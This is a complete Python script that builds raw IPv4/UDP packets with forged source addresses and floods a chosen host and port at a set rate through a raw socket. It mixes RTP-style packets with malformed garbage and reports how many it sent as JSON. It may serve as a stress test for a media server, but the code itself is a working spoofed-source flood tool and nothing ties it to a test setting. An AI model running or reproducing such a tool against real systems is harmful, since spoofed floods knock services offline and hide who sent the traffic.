"""A flood from forged addresses by a raw socket, half RTP and half garbage; tells how much in which time, as JSON."""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import struct
import time

VARIETY = 4096


def datagram(garbage: bool, source: tuple[str, int], to: tuple[str, int], draw: random.Random) -> bytes:
    if garbage:
        octets = draw.randbytes(draw.choice((0, 1, 7, 11, 12, 40, 172)))
    else:
        octets = struct.pack("!BBHII", 0x80, 0, draw.getrandbits(16), draw.getrandbits(32), draw.getrandbits(32))
        octets += bytes(160)
    size = 28 + len(octets)
    head = struct.pack("!BBHHHBBH", 0x45, 0, size, 0, 0, 64, socket.IPPROTO_UDP, 0)
    head += socket.inet_aton(source[0]) + socket.inet_aton(to[0])
    return head + struct.pack("!HHHH", source[1], to[1], size - 20, 0) + octets


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument(
        "--source", help="HOST:PORT, or HOST: with another port for each datagram; by default another host too"
    )
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=int, required=True, help="datagrams a second at most")
    parser.add_argument("to", help="HOST:PORT")
    options = parser.parse_args()
    host, _, port = options.to.rpartition(":")
    to = host, int(port)
    draw = random.Random(1)
    name, _, number = (options.source or ":").rpartition(":")

    def source() -> tuple[str, int]:
        anybody = str(ipaddress.IPv4Address(draw.randrange(1 << 24, 126 << 24)))
        return name or anybody, int(number or draw.randrange(1, 65536))

    datagrams = [datagram(number % 2 == 1, source(), to, draw) for number in range(VARIETY)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    refused = 0
    for number in range(options.count):
        if number % 64 == 0:
            while (ahead := number / options.rate - (time.monotonic() - start)) > 0:
                time.sleep(ahead)
        try:
            raw.sendto(datagrams[number % VARIETY], to)
        except OSError:
            refused += 1
    print(json.dumps({"sent": options.count - refused, "seconds": time.monotonic() - start}), flush=True)


if __name__ == "__main__":
    main()
